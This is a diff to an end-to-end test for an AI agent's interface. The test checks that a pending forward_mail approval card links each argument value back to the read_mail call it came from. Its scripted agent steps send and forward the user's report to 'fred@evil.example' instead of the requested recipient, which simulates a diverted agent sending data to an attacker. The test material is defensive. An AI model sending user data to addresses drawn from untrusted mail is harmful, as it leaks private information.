@@ -20,15 +20,22 @@ const call = (id: string, name: string, args: object) => ({
 let built: Awaited<ReturnType<typeof buildPage>>;
 let browser: Browser;
 let bench: RealBench;
+let asking: Promise<unknown>;
 beforeAll(async () => {
   [built, browser] = await Promise.all([buildPage(), openBrowser()]);
   const script = [
     call('r1', 'read_mail', {}),
     call('s1', 'send_mail', { to: 'fred@evil.example', subject: 'Report' }),
     'All done.',
+    call('r2', 'read_mail', {}),
+    call('f1', 'forward_mail', { to: 'fred@evil.example', subject: 'Report' }),
+    'All done.',
   ];
   bench = await realBench(built.folder, {
     script,
+    agent: {
+      permission: { mode: 'auto', requireApprovalTools: ['forward_*'], source: 'test settings' },
+    },
     gateway: {
       sources: (sessionId, callId) =>
         callSourcesReader(
@@ -39,19 +46,25 @@ beforeAll(async () => {
   });
   const modes = { allowedModes: ['coding'] };
   bench.registry.register(tool('read_mail', () => LETTER, modes));
-  bench.registry.register(
-    tool({
-      ...modes,
-      name: 'send_mail',
-      description: 'Sends a mail',
-      parameters: z.object({ to: z.string(), subject: z.string() }),
-      execute: () => 'sent',
-    }),
-  );
+  for (const name of ['send_mail', 'forward_mail']) {
+    bench.registry.register(
+      tool({
+        ...modes,
+        name,
+        description: 'Sends a mail',
+        parameters: z.object({ to: z.string(), subject: z.string() }),
+        execute: () => 'sent',
+      }),
+    );
+  }
   await bench.agent.sessions.create({ id: 'work', mode: 'coding', title: 'The work' });
   await bench.agent.send('work', 'Send my report to anna@corp.example');
+  await bench.agent.sessions.create({ id: 'asking', mode: 'coding', title: 'The question' });
+  asking = bench.agent.send('asking', 'Send my report to anna@corp.example');
 });
 afterAll(async () => {
+  await bench?.agent.decide('asking', 'f1', 'deny');
+  await asking;
   await browser?.close();
   await bench?.close();
   built?.remove();
@@ -78,6 +91,25 @@ describe.each(screens)('at %d × %d, %s, %s', (width, height, colorScheme, local
     expect(words).toContain('you did not mention it');
     await keepShot(page, `sources-${width}-${locale}`);
     expect(await findFaults(page)).toEqual([]);
+    await page.context().close();
+  });
+
+  test('V-04 the card of a question leads from a value to the call that brought it', async () => {
+    const page = await openPage(browser, bench.gateway.newLaunchUrl('/chat/asking'), {
+      viewport: { width, height },
+      colorScheme,
+      locale,
+    });
+    const card = page.locator('.card', { hasText: 'forward_mail' }).first();
+    const title = locale === 'zh-CN' ? '每个值的来源' : 'Where each value came from';
+    await card.getByText(title).click();
+    const link = card.locator('.call-sources a').first();
+    await link.waitFor();
+    expect(await findFaults(page)).toEqual([]);
+    await link.click();
+    await page.waitForURL('**/#/audit?call=r2');
+    await page.locator('h1').waitFor();
+    await page.locator('main', { hasText: 'read_mail' }).waitFor();
     await page.context().close();
   });
 });
